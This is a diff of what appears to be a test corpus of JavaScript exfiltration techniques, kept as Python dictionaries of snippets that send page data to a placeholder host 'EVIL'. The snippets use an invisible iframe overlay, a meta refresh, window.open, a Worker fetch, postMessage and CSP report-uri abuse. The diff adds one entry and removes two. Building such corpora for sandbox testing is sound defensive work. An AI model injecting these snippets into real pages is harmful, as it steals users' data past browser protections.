@@ -95,6 +95,10 @@ BY_FORM = {
     "an overlay of a foreign frame": """
         document.body.insertAdjacentHTML('beforeend',
           '<iframe src=EVIL/typed style="position: fixed; width: 100%; height: 100%; opacity: 0"></iframe>')""",
+    "a copy in an empty window": """first(() => {
+        const view = open('about:blank');
+        if (view) copy(view.document).submit();
+    })""",
     "leaving, with a question": """
         addEventListener('beforeunload', (event) => { event.preventDefault(); copy(document).submit(); })""",
 }
@@ -136,9 +140,6 @@ BY_SCRIPT = {
         document.head.insertAdjacentHTML('beforeend',
           `<meta http-equiv=refresh content="0; url=EVIL/got?${encodeURIComponent(all())}">`)""",
     "window": "open('EVIL/got?' + encodeURIComponent(all()))",
-    "window with a form": """
-        const view = open('about:blank');
-        if (view) copy(view.document).submit()""",
     "worker": """
         const source = `fetch('EVIL/got', { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(all())} })`;
         new Worker(URL.createObjectURL(new Blob([source])))""",
@@ -147,10 +148,6 @@ BY_SCRIPT = {
         frame.src = 'EVIL/typed';
         frame.onload = () => frame.contentWindow.postMessage(all(), '*');
         document.body.append(frame)""",
-    "report": """
-        document.head.insertAdjacentHTML('beforeend',
-          `<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri EVIL/got">`);
-        new Image().src = '/' + encodeURIComponent(all())""",
     "ping": """
         const link = document.createElement('a');
         link.href = '#';
